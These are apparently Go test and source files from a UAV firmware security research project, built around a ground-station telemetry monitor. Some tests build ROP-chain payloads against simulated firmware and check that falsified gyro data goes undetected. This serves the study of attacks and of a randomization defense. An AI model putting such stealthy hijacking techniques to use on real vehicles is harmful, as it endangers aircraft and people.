func TestMonitorCountsGarbageAndGaps(t *testing.T) {
	var m gcs.Monitor
	m.Feed([]byte{firmware.PulseMagic, 1, 10, 0}, 0)
	m.Feed([]byte{firmware.PulseMagic, 2, 10, 0}, time.Millisecond)
	m.Feed([]byte{firmware.PulseMagic, 7, 10, 0}, 2*time.Millisecond) // gap
	m.Feed([]byte{0xEE, 0xEE, 0xEE}, 3*time.Millisecond)              // garbage
	m.Feed(nil, 500*time.Millisecond)                                 // silence
	if m.Pulses != 3 {
		t.Errorf("pulses = %d, want 3", m.Pulses)
	}
	if m.SeqGaps != 1 {
		t.Errorf("gaps = %d, want 1", m.SeqGaps)
	}
	if m.Garbage == 0 {
		t.Error("garbage not counted")
	}
	if m.MaxSilence < 400*time.Millisecond {
		t.Errorf("silence = %v", m.MaxSilence)
	}
	if !m.CompromiseDetected(silenceThreshold) {
		t.Error("obvious anomalies not flagged")
	}
}

// Over a lossy datagram link (netlink), pulse sequence gaps with
// continuing well-formed traffic are packet loss, not compromise. The
// tolerant monitor books them as LinkGaps and stays quiet; the strict
// monitor (serial link) flags the same stream.
func TestMonitorToleratesLinkLoss(t *testing.T) {
	feed := func(m *gcs.Monitor) {
		m.Feed([]byte{firmware.PulseMagic, 1, 10, 0}, 0)
		m.Feed([]byte{firmware.PulseMagic, 2, 10, 0}, 10*time.Millisecond)
		m.Feed([]byte{firmware.PulseMagic, 9, 10, 0}, 20*time.Millisecond)  // lost datagram
		m.Feed([]byte{firmware.PulseMagic, 14, 10, 0}, 30*time.Millisecond) // lost datagram
	}
	tolerant := &gcs.Monitor{TolerateLinkLoss: true}
	feed(tolerant)
	if tolerant.LinkGaps != 2 || tolerant.SeqGaps != 0 {
		t.Errorf("tolerant: linkGaps=%d seqGaps=%d, want 2/0", tolerant.LinkGaps, tolerant.SeqGaps)
	}
	if tolerant.CompromiseDetected(silenceThreshold) {
		t.Error("tolerant monitor flagged pure packet loss as compromise")
	}

	strict := &gcs.Monitor{}
	feed(strict)
	if strict.SeqGaps != 2 || strict.LinkGaps != 0 {
		t.Errorf("strict: seqGaps=%d linkGaps=%d, want 2/0", strict.SeqGaps, strict.LinkGaps)
	}
	if !strict.CompromiseDetected(silenceThreshold) {
		t.Error("strict monitor ignored sequence gaps")
	}
}

// Link loss must not mask the paper's actual compromise signal: a
// vehicle that stops transmitting is still detected in tolerant mode.
func TestTolerantMonitorStillDetectsVehicleSilence(t *testing.T) {
	m := &gcs.Monitor{TolerateLinkLoss: true}
	m.Feed([]byte{firmware.PulseMagic, 1, 10, 0}, 0)
	m.Feed(nil, 100*time.Millisecond) // link quiet, below threshold
	if m.VehicleSilent(silenceThreshold) {
		t.Fatal("short quiet spell misread as silence")
	}
	m.Feed(nil, 600*time.Millisecond) // vehicle dead
	if !m.VehicleSilent(silenceThreshold) {
		t.Error("vehicle silence not detected")
	}
	if !m.CompromiseDetected(silenceThreshold) {
		t.Error("silence did not trip the tolerant verdict")
	}
	// Garbage and corrupt frames also still count in tolerant mode.
	m2 := &gcs.Monitor{TolerateLinkLoss: true}
	m2.Feed([]byte{0xEE}, 0)
	if !m2.CompromiseDetected(silenceThreshold) {
		t.Error("garbage ignored in tolerant mode")
	}
}

// The monitor demuxes interleaved pulses and MAVLink heartbeats.
func TestMonitorDemuxesHeartbeats(t *testing.T) {
	var m gcs.Monitor
	hb := &mavlink.Heartbeat{Type: 1, Autopilot: 3, SystemStatus: mavlink.StateActive, MavlinkVersion: 3}
	fr := &mavlink.Frame{MsgID: mavlink.MsgIDHeartbeat, SysID: 1, CompID: 1, Payload: hb.Marshal()}
	wire, err := fr.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	var stream []byte
	stream = append(stream, firmware.PulseMagic, 0, 10, 7)
	stream = append(stream, wire...)
	stream = append(stream, firmware.PulseMagic, 1, 10, 7)
	m.Feed(stream, time.Millisecond)
	if m.Pulses != 2 || m.SeqGaps != 0 {
		t.Errorf("pulses=%d gaps=%d", m.Pulses, m.SeqGaps)
	}
	if m.Heartbeats != 1 || m.HeartbeatErrors != 0 {
		t.Errorf("heartbeats=%d errors=%d", m.Heartbeats, m.HeartbeatErrors)
	}
	if m.LastStatus != mavlink.StateActive || m.LastHeading != 7 {
		t.Errorf("status=%d heading=%d", m.LastStatus, m.LastHeading)
	}
	if m.CompromiseDetected(silenceThreshold) {
		t.Error("clean interleaved stream flagged")
	}
}

// A corrupt heartbeat (checksum failure) is an anomaly.
func TestMonitorFlagsCorruptHeartbeat(t *testing.T) {
	var m gcs.Monitor
	hb := &mavlink.Heartbeat{SystemStatus: mavlink.StateActive}
	fr := &mavlink.Frame{MsgID: mavlink.MsgIDHeartbeat, Payload: hb.Marshal()}
	wire, err := fr.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	wire[10] ^= 0xFF
	m.Feed(wire, time.Millisecond)
	if m.HeartbeatErrors != 1 {
		t.Errorf("heartbeat errors = %d, want 1", m.HeartbeatErrors)
	}
	if !m.CompromiseDetected(silenceThreshold) {
		t.Error("corrupt heartbeat not flagged")
	}
}

// The RAW_IMU stream (the paper's gyroscope sensor channel) reports the
// falsified values after a stealthy attack, with every frame still
// checksum-valid — the ground station has no way to tell the data is
// attacker-chosen.
func TestRawIMUCarriesFalsifiedGyro(t *testing.T) {
	img := testImage(t)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	payload, err := attack.BuildV2(a, attack.GyroCfgWrite(0x60))
	if err != nil {
		t.Fatal(err)
	}
	g := unprotectedStation(t, img)
	fly(t, g, 300*time.Millisecond)
	if g.Mon.RawIMUs == 0 {
		t.Fatal("no RAW_IMU frames before the attack")
	}
	if g.Mon.LastXgyro != 10 {
		t.Fatalf("pre-attack xgyro = %d, want 10", g.Mon.LastXgyro)
	}
	g.SendFrame(attack.Frame(payload))
	fly(t, g, 400*time.Millisecond)
	if g.Mon.LastXgyro != 10+0x60 {
		t.Errorf("post-attack xgyro = %d, want %d", g.Mon.LastXgyro, 10+0x60)
	}
	if g.Mon.HeartbeatErrors != 0 || g.Mon.CompromiseDetected(silenceThreshold) {
		t.Errorf("stealth broken: hbErr=%d detected=%v",
			g.Mon.HeartbeatErrors, g.Mon.CompromiseDetected(silenceThreshold))
	}
}

// The firmware acknowledges every PARAM_SET with a PARAM_VALUE echo,
// closing the GCS parameter protocol loop.
func TestParamValueEcho(t *testing.T) {
	img := testImage(t)
	g := unprotectedStation(t, img)
	g.SetParam("RATE_RLL_P", 0) // value bytes are zero; the echo's id matters
	fly(t, g, 300*time.Millisecond)
	if g.Mon.ParamEchoes == 0 {
		t.Fatal("no PARAM_VALUE echo")
	}
	if g.Mon.LastEcho.ParamID != "RATE_RLL_P" {
		t.Errorf("echoed id %q, want RATE_RLL_P", g.Mon.LastEcho.ParamID)
	}
	if g.Mon.LastEcho.ParamCount != 1 {
		t.Errorf("echoed count %d", g.Mon.LastEcho.ParamCount)
	}
}

// A stealth nuance the paper does not discuss: the hijacked handler
// still emits the PARAM_VALUE echo before the ROP chain takes over, so
// the attack packet is acknowledged with chain junk in the name field.
// Liveness monitoring stays silent, but a semantic ground-station check
// matching echoes to requests would have something to see.
func TestAttackPacketProducesGarbledEcho(t *testing.T) {
	img := testImage(t)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	payload, err := attack.BuildV2(a, attack.GyroCfgWrite(0x44))
	if err != nil {
		t.Fatal(err)
	}
	g := unprotectedStation(t, img)
	fly(t, g, 200*time.Millisecond)
	echoesBefore := g.Mon.ParamEchoes
	g.SendFrame(attack.Frame(payload))
	fly(t, g, 400*time.Millisecond)
	if g.Mon.ParamEchoes != echoesBefore+1 {
		t.Fatalf("attack packet produced %d echoes", g.Mon.ParamEchoes-echoesBefore)
	}
	if g.Mon.LastEcho.ParamID == "RATE_RLL_P" {
		t.Error("echo looks legitimate — expected chain junk in the name")
	}
	// Liveness rules still see nothing.
	if g.Mon.CompromiseDetected(silenceThreshold) {
		t.Error("liveness monitoring flagged the attack")
	}
}

// The parameter client's request/acknowledge/retry protocol works
// against the live firmware on both plain and MAVR boards.
func TestParamClientSetAndAck(t *testing.T) {
	img := testImage(t)
	g := unprotectedStation(t, img)
	fly(t, g, 50*time.Millisecond)
	c := gcs.NewParamClient(g)
	echo, err := c.Set("RATE_PIT_P", 0)
	if err != nil {
		t.Fatal(err)
	}
	if echo.ParamID != "RATE_PIT_P" {
		t.Errorf("acked id %q", echo.ParamID)
	}

	// And on a randomized board.
	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{Seed: 2}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}
	g2 := gcs.NewGroundStation(sys)
	fly(t, g2, 50*time.Millisecond)
	if _, err := gcs.NewParamClient(g2).Set("RATE_YAW_P", 0); err != nil {
		t.Fatalf("param write on MAVR board: %v", err)
	}
}

// The client times out against a dead vehicle.
func TestParamClientTimeout(t *testing.T) {
	img := testImage(t)
	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{Seed: 1}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	// Never booted: the application processor was never programmed and
	// spins through empty flash.
	g := gcs.NewGroundStation(sys)
	c := gcs.NewParamClient(g)
	c.Timeout = 50 * time.Millisecond
	c.Retries = 1
	if _, err := c.Set("X", 1); err == nil {
		t.Fatal("ack from a dead vehicle")
	}
}

// V3 staging interleaved with benign parameter traffic: the attack
// stays stealthy under normal operational load.
func TestV3StagingInterleavedWithBenignTraffic(t *testing.T) {
	img := testImage(t)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	var big []attack.Write
	for i := 0; i < 4; i++ {
		big = append(big, attack.Write{Addr: 0x1900 + uint16(3*i), Vals: [3]byte{1, 2, byte(i)}})
	}
	packets, err := attack.BuildV3(a, big, firmware.AddrFreeMem)
	if err != nil {
		t.Fatal(err)
	}
	g := unprotectedStation(t, img)
	client := gcs.NewParamClient(g)
	for i, p := range packets {
		g.SendFrame(attack.Frame(p))
		fly(t, g, 30*time.Millisecond)
		if i%4 == 0 { // benign traffic between staging packets
			if _, err := client.Set("RATE_RLL_P", 0); err != nil {
				t.Fatalf("benign param write failed mid-staging: %v", err)
			}
		}
	}
	fly(t, g, 200*time.Millisecond)
	for i, w := range big {
		for j := 0; j < 3; j++ {
			if got := g.Sys.App.CPU.Data[int(w.Addr)+j]; got != w.Vals[j] {
				t.Errorf("staged write %d byte %d = 0x%02X", i, j, got)
			}
		}
	}
	if g.Mon.CompromiseDetected(silenceThreshold) {
		t.Error("interleaved staging detected")
	}
}
