package gcs_test

// Edge-case coverage for the Monitor state machine using synthetic byte
// streams: silence threshold boundaries, duplicated and out-of-order
// pulse sequence numbers (what datagram duplication and reordering on
// the netlink fabric actually produce), sequence wraparound, and
// records split across Feed calls.

import (
	"testing"
	"time"

	"mavr/internal/firmware"
	"mavr/internal/gcs"
	"mavr/internal/mavlink"
)

func pulse(seq byte) []byte {
	return []byte{firmware.PulseMagic, seq, 10, 0}
}

// VehicleSilent is a strict > comparison: a gap of exactly the
// threshold is still tolerated, one step past it is not.
func TestMonitorSilenceThresholdEdge(t *testing.T) {
	m := &gcs.Monitor{}
	m.Feed(pulse(1), 0)
	m.Feed(nil, silenceThreshold)
	if m.MaxSilence != silenceThreshold {
		t.Fatalf("MaxSilence = %v, want %v", m.MaxSilence, silenceThreshold)
	}
	if m.VehicleSilent(silenceThreshold) {
		t.Error("gap equal to the threshold flagged as silence")
	}
	m.Feed(nil, silenceThreshold+time.Microsecond)
	if !m.VehicleSilent(silenceThreshold) {
		t.Error("gap past the threshold not flagged")
	}
}

// Silence is measured from the first received byte: a link that never
// carried data is an unconnected link, not a silent vehicle.
func TestMonitorNoTrafficIsNotSilence(t *testing.T) {
	m := &gcs.Monitor{}
	m.Feed(nil, 0)
	m.Feed(nil, time.Hour)
	if m.MaxSilence != 0 || m.VehicleSilent(silenceThreshold) {
		t.Error("silence accumulated before any downlink data")
	}
	if m.CompromiseDetected(silenceThreshold) {
		t.Error("empty link flagged as compromise")
	}
}

// MaxSilence keeps the longest gap even after traffic resumes, so a
// transient outage is still visible in the final verdict.
func TestMonitorMaxSilenceRetainsLongestGap(t *testing.T) {
	m := &gcs.Monitor{}
	m.Feed(pulse(1), 0)
	m.Feed(pulse(2), 150*time.Millisecond) // long gap
	m.Feed(pulse(3), 160*time.Millisecond) // short gap
	if m.MaxSilence != 150*time.Millisecond {
		t.Errorf("MaxSilence = %v, want 150ms", m.MaxSilence)
	}
}

// A duplicated datagram replays an already-seen sequence number. The
// monitor books one gap for the replay (tolerant: link gap) and then
// resynchronizes on the next in-order pulse.
func TestMonitorDuplicatedPulseSeq(t *testing.T) {
	m := &gcs.Monitor{TolerateLinkLoss: true}
	for _, s := range []byte{1, 2, 2, 3} {
		m.Feed(pulse(s), 0)
	}
	if m.Pulses != 4 {
		t.Errorf("pulses = %d, want 4", m.Pulses)
	}
	if m.LinkGaps != 1 || m.SeqGaps != 0 {
		t.Errorf("linkGaps=%d seqGaps=%d, want 1/0", m.LinkGaps, m.SeqGaps)
	}
	if m.CompromiseDetected(silenceThreshold) {
		t.Error("tolerant monitor flagged a duplicated datagram")
	}

	strict := &gcs.Monitor{}
	for _, s := range []byte{1, 2, 2, 3} {
		strict.Feed(pulse(s), 0)
	}
	if strict.SeqGaps != 1 || !strict.CompromiseDetected(silenceThreshold) {
		t.Errorf("strict monitor: seqGaps=%d, want 1 and a compromise verdict", strict.SeqGaps)
	}
}

// Reordered datagrams break the expectation on both edges of the swap:
// each displaced pulse counts as its own discontinuity.
func TestMonitorOutOfOrderPulseSeq(t *testing.T) {
	m := &gcs.Monitor{TolerateLinkLoss: true}
	for _, s := range []byte{1, 3, 2, 4} {
		m.Feed(pulse(s), 0)
	}
	if m.Pulses != 4 {
		t.Errorf("pulses = %d, want 4", m.Pulses)
	}
	// 3 after 1 (expect 2), 2 after 3 (expect 4), 4 after 2 (expect 3).
	if m.LinkGaps != 3 {
		t.Errorf("linkGaps = %d, want 3", m.LinkGaps)
	}
}

// The pulse sequence counter is a byte; 255 -> 0 is continuity, not a
// discontinuity.
func TestMonitorSeqWraparound(t *testing.T) {
	m := &gcs.Monitor{}
	m.Feed(pulse(254), 0)
	m.Feed(pulse(255), 0)
	m.Feed(pulse(0), 0)
	m.Feed(pulse(1), 0)
	if m.SeqGaps != 0 || m.LinkGaps != 0 {
		t.Errorf("wraparound miscounted: seqGaps=%d linkGaps=%d", m.SeqGaps, m.LinkGaps)
	}
	if m.Pulses != 4 {
		t.Errorf("pulses = %d, want 4", m.Pulses)
	}
}

// The state machine is byte-oriented: a pulse and a full MAVLink frame
// dribbled in one byte per Feed call parse identically to a single
// contiguous delivery, and the dribble never reads as garbage.
func TestMonitorRecordsSplitAcrossFeeds(t *testing.T) {
	hb := &mavlink.Heartbeat{SystemStatus: mavlink.StateActive, MavlinkVersion: 3}
	fr := &mavlink.Frame{MsgID: mavlink.MsgIDHeartbeat, SysID: 1, CompID: 1, Payload: hb.Marshal()}
	wire, err := fr.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	var stream []byte
	stream = append(stream, pulse(5)...)
	stream = append(stream, wire...)
	stream = append(stream, pulse(6)...)

	m := &gcs.Monitor{}
	for i, b := range stream {
		m.Feed([]byte{b}, time.Duration(i)*time.Millisecond)
	}
	if m.Pulses != 2 || m.Heartbeats != 1 {
		t.Errorf("pulses=%d heartbeats=%d, want 2/1", m.Pulses, m.Heartbeats)
	}
	if m.Garbage != 0 || m.HeartbeatErrors != 0 || m.SeqGaps != 0 {
		t.Errorf("dribbled stream misparsed: garbage=%d frameErrors=%d seqGaps=%d",
			m.Garbage, m.HeartbeatErrors, m.SeqGaps)
	}
	if m.CompromiseDetected(silenceThreshold) {
		t.Error("clean dribbled stream flagged")
	}
}

// Tolerant mode reclassifies gaps but must not dull the remaining
// signals: after heavy link loss, prolonged silence still trips the
// verdict, and LinkGaps alone never do.
func TestMonitorLinkGapsVersusSilenceVerdicts(t *testing.T) {
	m := &gcs.Monitor{TolerateLinkLoss: true}
	for i, s := range []byte{1, 9, 17, 25} { // 3 gaps
		m.Feed(pulse(s), time.Duration(i)*10*time.Millisecond)
	}
	if m.LinkGaps != 3 {
		t.Fatalf("linkGaps = %d, want 3", m.LinkGaps)
	}
	if m.CompromiseDetected(silenceThreshold) {
		t.Error("link gaps alone tripped the tolerant verdict")
	}
	m.Feed(nil, time.Second) // now the vehicle goes quiet
	if !m.VehicleSilent(silenceThreshold) || !m.CompromiseDetected(silenceThreshold) {
		t.Error("silence after link loss not detected")
	}
}

// A pure link outage — datagrams stop arriving entirely, then resume —
// must never be charged to the vehicle: NoteLinkOutage re-baselines the
// vehicle-silence clock, books the span as link silence, and the final
// classification is link-dead/degraded rather than compromise.
func TestMonitorLinkOutageIsNotVehicleSilence(t *testing.T) {
	m := &gcs.Monitor{TolerateLinkLoss: true}
	m.Feed(pulse(1), 0)
	m.Feed(pulse(2), 50*time.Millisecond)
	// 400ms of total arrival silence: a partition, twice the threshold.
	m.FeedLinkIdle(250 * time.Millisecond)
	if m.MaxLinkSilence != 200*time.Millisecond {
		t.Fatalf("MaxLinkSilence = %v during outage", m.MaxLinkSilence)
	}
	m.NoteLinkOutage(450 * time.Millisecond)
	m.Feed(pulse(3), 455*time.Millisecond)
	if m.VehicleSilent(silenceThreshold) {
		t.Errorf("partition charged as vehicle silence: MaxSilence=%v", m.MaxSilence)
	}
	if !m.LinkSilent(silenceThreshold) {
		t.Errorf("outage not booked as link silence: MaxLinkSilence=%v", m.MaxLinkSilence)
	}
	if m.LinkOutages != 1 {
		t.Errorf("LinkOutages = %d, want 1", m.LinkOutages)
	}
	if m.CompromiseDetected(silenceThreshold) {
		t.Error("pure link outage flagged as compromise")
	}
	if got := m.Classify(silenceThreshold); got != gcs.HealthLinkDead {
		t.Errorf("Classify = %v, want link-dead", got)
	}
}

// NoteLinkOutage preserves silence accrued while the link was still
// alive: pre-outage vehicle silence plus post-outage vehicle silence
// both count, only the unattributable outage span is excluded.
func TestMonitorOutagePreservesPreOutageSilence(t *testing.T) {
	m := &gcs.Monitor{TolerateLinkLoss: true}
	m.Feed(pulse(1), 0)
	// 150ms of alive-link silence (beacons with no telemetry).
	m.Feed(nil, 150*time.Millisecond)
	// Then the link dies for 10 seconds.
	m.NoteLinkOutage(10150 * time.Millisecond)
	// Link back; vehicle still silent for another 100ms.
	m.Feed(nil, 10250*time.Millisecond)
	want := 250 * time.Millisecond
	if m.MaxSilence != want {
		t.Errorf("MaxSilence = %v, want %v (150ms pre + 100ms post outage)", m.MaxSilence, want)
	}
	if !m.VehicleSilent(silenceThreshold) {
		t.Error("accumulated alive-link silence past threshold not flagged")
	}
	if got := m.Classify(silenceThreshold); got != gcs.HealthVehicleDead {
		t.Errorf("Classify = %v, want vehicle-dead", got)
	}
}

// The graded taxonomy: ok → degraded (corrupt drops / link gaps) →
// compromised (garbage), in severity order.
func TestMonitorClassifyOrdering(t *testing.T) {
	m := &gcs.Monitor{TolerateLinkLoss: true}
	m.Feed(pulse(1), 0)
	m.Feed(pulse(2), 10*time.Millisecond)
	if got := m.Classify(silenceThreshold); got != gcs.HealthOK {
		t.Fatalf("clean link Classify = %v", got)
	}
	m.NoteCorrupt()
	if got := m.Classify(silenceThreshold); got != gcs.HealthDegraded {
		t.Fatalf("after corrupt drop Classify = %v, want degraded", got)
	}
	m.Feed(pulse(9), 20*time.Millisecond) // tolerated gap
	if m.LinkGaps == 0 {
		t.Fatal("tolerant gap not booked")
	}
	if got := m.Classify(silenceThreshold); got != gcs.HealthDegraded {
		t.Fatalf("after link gap Classify = %v, want degraded", got)
	}
	m.Feed([]byte{0xEE}, 30*time.Millisecond) // garbage byte
	if got := m.Classify(silenceThreshold); got != gcs.HealthCompromised {
		t.Fatalf("after garbage Classify = %v, want compromised", got)
	}
	if !m.CompromiseDetected(silenceThreshold) {
		t.Error("Classify and CompromiseDetected disagree on garbage")
	}
}

// Health values render stable names (they appear in traces and
// metrics).
func TestHealthStrings(t *testing.T) {
	for h, want := range map[gcs.Health]string{
		gcs.HealthOK: "ok", gcs.HealthDegraded: "degraded",
		gcs.HealthLinkDead: "link-dead", gcs.HealthVehicleDead: "vehicle-dead",
		gcs.HealthCompromised: "compromised", gcs.Health(99): "unknown",
	} {
		if h.String() != want {
			t.Errorf("Health(%d).String() = %q, want %q", int(h), h, want)
		}
	}
}
