package gcs

import (
	"time"

	"mavr/internal/firmware"
	"mavr/internal/mavlink"
)

// Monitor watches the UAV's downlink, which interleaves two streams:
// fast telemetry pulses ([magic, seq, gyro, heading]) and periodic full
// MAVLink HEARTBEAT frames. It records the anomalies a ground station
// would alarm on — exactly what the paper's stealthy attack must avoid
// tripping.
type Monitor struct {
	// TolerateLinkLoss adapts the verdict to a lossy datagram transport
	// (internal/netlink): UDP loses whole record-aligned datagrams, so a
	// pulse sequence discontinuity with otherwise well-formed traffic is
	// link loss, not evidence of compromise. In this mode gaps are
	// counted in LinkGaps and excluded from CompromiseDetected; the
	// compromise signal the paper relies on becomes vehicle silence
	// (VehicleSilent) plus garbage/corrupt frames, which packet loss on
	// a record-aligned link cannot produce. The default (false) keeps
	// the strict serial-link rule.
	TolerateLinkLoss bool

	// Pulses is the count of well-formed pulses seen.
	Pulses int
	// SeqGaps counts discontinuities in the pulse sequence number
	// treated as anomalies (strict mode).
	SeqGaps int
	// LinkGaps counts discontinuities attributed to datagram loss
	// (TolerateLinkLoss mode).
	LinkGaps int
	// Garbage counts bytes that fit neither stream.
	Garbage int
	// MaxSilence is the longest observed downlink gap.
	MaxSilence time.Duration
	// LastGyro is the most recent reported gyro value.
	LastGyro byte
	// LastHeading is the most recent commanded heading.
	LastHeading byte

	// Heartbeats counts checksum-valid MAVLink HEARTBEAT frames.
	Heartbeats int
	// HeartbeatErrors counts frames that failed checksum validation.
	HeartbeatErrors int
	// LastStatus is the last reported MAV_STATE.
	LastStatus byte
	// RawIMUs counts checksum-valid RAW_IMU frames.
	RawIMUs int
	// LastXgyro is the most recent RAW_IMU x-gyro reading — the sensor
	// channel the paper's attack falsifies.
	LastXgyro int16
	// ParamEchoes counts PARAM_VALUE acknowledgements.
	ParamEchoes int
	// LastEcho is the most recent parameter acknowledgement.
	LastEcho *mavlink.ParamValue

	started   bool
	expectSeq byte
	sawData   bool
	lastData  time.Duration

	mode    monMode
	pulse   []byte
	frame   mavlink.Parser
	frameN  int
	frameLn int
}

type monMode int

const (
	monIdle monMode = iota
	monPulse
	monFrame
)

// Feed consumes downlink bytes received up to simulated time now. Call
// it regularly (even with no data) so silence is measured.
func (m *Monitor) Feed(data []byte, now time.Duration) {
	if m.sawData {
		if gap := now - m.lastData; gap > m.MaxSilence {
			m.MaxSilence = gap
		}
	}
	if len(data) > 0 {
		m.sawData = true
		m.lastData = now
	}
	for _, b := range data {
		m.feedByte(b)
	}
}

func (m *Monitor) feedByte(b byte) {
	switch m.mode {
	case monIdle:
		switch b {
		case firmware.PulseMagic:
			m.mode = monPulse
			m.pulse = m.pulse[:0]
		case mavlink.Magic:
			m.mode = monFrame
			m.frame = mavlink.Parser{StrictLength: true}
			m.frame.Feed(b)
			m.frameN = 1
			m.frameLn = -1
		default:
			m.Garbage++
		}

	case monPulse:
		m.pulse = append(m.pulse, b)
		if len(m.pulse) == firmware.PulseSize-1 {
			seq, gyro, heading := m.pulse[0], m.pulse[1], m.pulse[2]
			if m.started && seq != m.expectSeq {
				if m.TolerateLinkLoss {
					m.LinkGaps++
				} else {
					m.SeqGaps++
				}
			}
			m.started = true
			m.expectSeq = seq + 1
			m.LastGyro = gyro
			m.LastHeading = heading
			m.Pulses++
			m.mode = monIdle
		}

	case monFrame:
		f := m.frame.Feed(b)
		m.frameN++
		if m.frameN == 2 {
			m.frameLn = 6 + int(b) + 2
		}
		if f != nil {
			m.handleFrame(f)
			m.mode = monIdle
			return
		}
		if m.frameLn > 0 && m.frameN >= m.frameLn {
			// Frame fully consumed but rejected (checksum/length).
			m.HeartbeatErrors++
			m.mode = monIdle
		}
	}
}

func (m *Monitor) handleFrame(f *mavlink.Frame) {
	switch f.MsgID {
	case mavlink.MsgIDHeartbeat:
		hb, err := mavlink.UnmarshalHeartbeat(f.Payload)
		if err != nil {
			m.HeartbeatErrors++
			return
		}
		m.Heartbeats++
		m.LastStatus = hb.SystemStatus
	case mavlink.MsgIDRawIMU:
		imu, err := mavlink.UnmarshalRawIMU(f.Payload)
		if err != nil {
			m.HeartbeatErrors++
			return
		}
		m.RawIMUs++
		m.LastXgyro = imu.Xgyro
	case mavlink.MsgIDParamValue:
		pv, err := mavlink.UnmarshalParamValue(f.Payload)
		if err != nil {
			m.HeartbeatErrors++
			return
		}
		m.ParamEchoes++
		m.LastEcho = pv
	}
}

// CompromiseDetected applies the ground station's detection rule: any
// garbage or corrupt heartbeat on the link, a pulse sequence
// discontinuity (unless attributed to link loss, see TolerateLinkLoss),
// a non-active MAV_STATE, or silence longer than the threshold.
func (m *Monitor) CompromiseDetected(silenceThreshold time.Duration) bool {
	if m.Garbage > 0 || m.SeqGaps > 0 || m.HeartbeatErrors > 0 {
		return true
	}
	if m.Heartbeats > 0 && m.LastStatus != mavlink.StateActive {
		return true
	}
	return m.VehicleSilent(silenceThreshold)
}

// VehicleSilent reports the paper's compromise signal on its own: the
// vehicle stopped producing telemetry for longer than the threshold.
// Unlike sequence gaps, silence survives a lossy link — a healthy
// vehicle keeps transmitting through packet loss, so prolonged silence
// (measured against the feeder's clock) means the vehicle itself, not
// the link, went quiet.
func (m *Monitor) VehicleSilent(threshold time.Duration) bool {
	return m.MaxSilence > threshold
}
