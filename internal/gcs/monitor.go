package gcs

import (
	"time"

	"mavr/internal/firmware"
	"mavr/internal/mavlink"
)

// Monitor watches the UAV's downlink, which interleaves two streams:
// fast telemetry pulses ([magic, seq, gyro, heading]) and periodic full
// MAVLink HEARTBEAT frames. It records the anomalies a ground station
// would alarm on — exactly what the paper's stealthy attack must avoid
// tripping.
type Monitor struct {
	// TolerateLinkLoss adapts the verdict to a lossy datagram transport
	// (internal/netlink): UDP loses whole record-aligned datagrams, so a
	// pulse sequence discontinuity with otherwise well-formed traffic is
	// link loss, not evidence of compromise. In this mode gaps are
	// counted in LinkGaps and excluded from CompromiseDetected; the
	// compromise signal the paper relies on becomes vehicle silence
	// (VehicleSilent) plus garbage/corrupt frames, which packet loss on
	// a record-aligned link cannot produce. The default (false) keeps
	// the strict serial-link rule.
	TolerateLinkLoss bool

	// Pulses is the count of well-formed pulses seen.
	Pulses int
	// SeqGaps counts discontinuities in the pulse sequence number
	// treated as anomalies (strict mode).
	SeqGaps int
	// LinkGaps counts discontinuities attributed to datagram loss
	// (TolerateLinkLoss mode).
	LinkGaps int
	// Garbage counts bytes that fit neither stream.
	Garbage int
	// MaxSilence is the longest observed downlink gap.
	MaxSilence time.Duration
	// LastGyro is the most recent reported gyro value.
	LastGyro byte
	// LastHeading is the most recent commanded heading.
	LastHeading byte

	// MaxLinkSilence is the longest span attributed to the link itself
	// being down (no datagrams arriving at all), as reported by the
	// feeder via NoteLinkOutage/FeedLinkIdle. Unlike MaxSilence it
	// carries no implication about the vehicle: a partitioned radio and
	// a healthy vehicle produce exactly this signature.
	MaxLinkSilence time.Duration
	// LinkOutages counts distinct link-down spans (NoteLinkOutage calls).
	LinkOutages int
	// CorruptDrops counts datagrams the transport rejected for failed
	// integrity checks (NoteCorrupt) — wire damage surfacing as loss.
	CorruptDrops int

	// Heartbeats counts checksum-valid MAVLink HEARTBEAT frames.
	Heartbeats int
	// HeartbeatErrors counts frames that failed checksum validation.
	HeartbeatErrors int
	// LastStatus is the last reported MAV_STATE.
	LastStatus byte
	// RawIMUs counts checksum-valid RAW_IMU frames.
	RawIMUs int
	// LastXgyro is the most recent RAW_IMU x-gyro reading — the sensor
	// channel the paper's attack falsifies.
	LastXgyro int16
	// ParamEchoes counts PARAM_VALUE acknowledgements.
	ParamEchoes int
	// LastEcho is the most recent parameter acknowledgement.
	LastEcho *mavlink.ParamValue

	started     bool
	expectSeq   byte
	sawData     bool
	lastData    time.Duration
	sawArrival  bool
	lastArrival time.Duration

	mode    monMode
	pulse   []byte
	frame   mavlink.Parser
	frameN  int
	frameLn int
}

type monMode int

const (
	monIdle monMode = iota
	monPulse
	monFrame
)

// Feed consumes downlink bytes received up to simulated time now. Call
// it regularly (even with no data) so silence is measured. Every Feed
// is an *arrival*: evidence that the link was delivering at time now.
// When the feeder knows the link itself was down for a span (no
// datagrams at all), it must report that span via NoteLinkOutage
// instead, so the silence is charged to the link rather than the
// vehicle.
func (m *Monitor) Feed(data []byte, now time.Duration) {
	if m.sawData {
		if gap := now - m.lastData; gap > m.MaxSilence {
			m.MaxSilence = gap
		}
	}
	m.sawArrival = true
	m.lastArrival = now
	if len(data) > 0 {
		m.sawData = true
		m.lastData = now
	}
	for _, b := range data {
		m.feedByte(b)
	}
}

// FeedLinkIdle records that nothing has arrived between the last
// arrival and (estimated) time now. It keeps MaxLinkSilence live while
// an outage is still in progress; the outage is booked and the
// vehicle-silence clock re-baselined when traffic resumes
// (NoteLinkOutage).
func (m *Monitor) FeedLinkIdle(now time.Duration) {
	if !m.sawArrival {
		return
	}
	if gap := now - m.lastArrival; gap > m.MaxLinkSilence {
		m.MaxLinkSilence = gap
	}
}

// NoteLinkOutage attributes the span since the last arrival to a dead
// link: datagrams stopped arriving entirely, so nothing in that span
// says anything about the vehicle. The span is excluded from the
// vehicle-silence measurement (only telemetry silence observed while
// the link was demonstrably alive counts), which is what keeps a pure
